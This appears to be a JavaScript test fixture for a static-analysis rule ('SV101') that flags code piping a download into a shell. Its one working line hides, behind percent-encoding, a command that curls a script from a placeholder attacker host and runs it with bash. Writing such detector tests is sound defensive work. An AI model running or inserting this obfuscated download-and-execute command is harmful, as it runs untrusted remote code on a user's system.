const cp = await import('node:child_process');
cp.exec(decodeURIComponent('%63%75%72%6c%20http%3A%2F%2Fevil.example%2Fa%20%7C%20bash')); // want "SV101: .*pipes a download"
